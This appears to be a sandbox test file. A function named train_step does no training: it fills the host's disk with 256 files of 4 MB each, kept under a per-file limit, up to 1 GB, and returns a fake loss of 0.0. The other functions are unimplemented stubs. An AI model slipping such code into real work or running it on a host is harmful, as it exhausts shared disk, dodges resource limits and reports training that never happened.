"""Fills its working folder with files of 4 MB each (every one under the per-file limit), up to
1 GB, from inside train_step: the scratch folder sits on the host's disk."""
import os


def train_step(model, loss_fn, optimizer, x, y):
    chunk = b"\0" * (1 << 20)
    for number in range(256):
        with open(f"filler-{number}.bin", "wb") as handle:
            for _ in range(4):
                handle.write(chunk)
            handle.flush()
            os.fsync(handle.fileno())
    return 0.0


def fit(model, loss_fn, optimizer, x, y, epochs):
    raise NotImplementedError


def fit_line(x, y, epochs=100, lr=0.1):
    raise NotImplementedError
